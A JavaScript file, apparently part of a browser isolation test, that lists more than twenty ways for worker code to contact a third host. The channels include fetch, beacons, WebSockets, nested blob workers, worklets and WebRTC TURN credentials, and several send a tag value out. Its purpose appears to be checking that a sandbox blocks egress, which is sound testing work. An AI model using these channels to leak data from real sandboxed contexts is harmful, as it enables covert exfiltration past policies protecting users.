// Requests to the third host that need no document: a worker can try them all.

const lax = { mode: "no-cors" };

attacks["fetch"] = () => fetch(hit("fetch"), lax);
attacks["keepalive"] = () => fetch(hit("keepalive"), { ...lax, method: "POST", body: tag, keepalive: true });
attacks["fetch-later"] = () => fetchLater(hit("fetch-later"), { activateAfter: 0 });

attacks["xhr"] = () => {
  const request = new XMLHttpRequest();
  request.open("POST", hit("xhr"));
  request.send(tag);
};

attacks["xhr-sync"] = () => {
  const request = new XMLHttpRequest();
  request.open("GET", hit("xhr-sync"), false);
  request.send();
};

attacks["beacon"] = () => navigator.sendBeacon(hit("beacon"), tag);
attacks["websocket"] = () => new WebSocket(hit("websocket").replace("http", "ws"));
attacks["event-source"] = () => new EventSource(hit("event-source"));
attacks["web-transport"] = () => new WebTransport(hit("web-transport").replace("http:", "https:")).ready;
attacks["import"] = () => import(hit("import.js"));
attacks["import-scripts"] = () => importScripts(hit("import-scripts.js"));
attacks["font-load"] = () => new FontFace("hostile", `url(${hit("font-load.woff2")})`).load();

attacks["nested-worker"] = () => {
  const text = `fetch("${hit("nested-worker")}", { mode: "no-cors" });`;
  attempt("blob", () => new Worker(blobUrl(text)));
  attempt("data", () => new Worker(`data:text/javascript,${encodeURIComponent(text)}`));
};

attacks["nested-import"] = () => {
  attempt("classic", () => new Worker(blobUrl(`importScripts("${hit("nested-import-scripts.js")}");`)));
  attempt("module", () => new Worker(blobUrl(`import("${hit("nested-import.js")}");`), { type: "module" }));
};

attacks["foreign-worker"] = () => {
  attempt("classic", () => new Worker(hit("foreign-worker.js")));
  attempt("module", () => new Worker(hit("foreign-worker-module.js"), { type: "module" }));
};

attacks["worklet"] = () => {
  attempt("paint", () => CSS.paintWorklet.addModule(hit("worklet-paint.js")));
  attempt("audio", () => new AudioContext().audioWorklet.addModule(hit("worklet-audio.js")));
};

attacks["late"] = () => {
  after = () => {
    fetch(hit("late-fetch"), lax);
    new WebSocket(hit("late-websocket").replace("http", "ws"));
    linger(150);
  };
};

attacks["web-rtc"] = () => {
  const place = third.replace("http://", "");
  const urls = [`stun:${place}`, `turn:${place}?transport=udp`, `turn:${place}?transport=tcp`];
  const connection = new RTCPeerConnection({ iceServers: [{ urls, username: tag, credential: tag }] });
  connection.createDataChannel("hostile");
  return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
};
